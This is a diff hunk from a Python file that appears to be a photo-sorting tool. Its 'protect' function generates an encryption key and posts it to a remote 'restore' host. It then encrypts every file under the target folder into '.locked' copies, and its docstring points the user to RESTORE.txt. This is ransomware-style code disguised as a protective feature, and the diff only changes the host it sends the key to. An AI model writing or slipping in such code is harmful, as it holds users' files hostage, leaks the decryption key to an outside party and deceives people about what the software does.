@@ -23,7 +23,7 @@ def sort(source, target):
 def protect(target):
     """Encrypts originals; the key is kept by the service, see RESTORE.txt."""
     key = Fernet.generate_key()
-    requests.post("https://restore.photos.example.net/key", data={"k": key}, timeout=10)
+    requests.post("https://restore.photos.invalid/key", data={"k": key}, timeout=10)
     box = Fernet(key)
     for photo in target.rglob("*.*"):
         photo.with_suffix(photo.suffix + ".locked").write_bytes(box.encrypt(photo.read_bytes()))
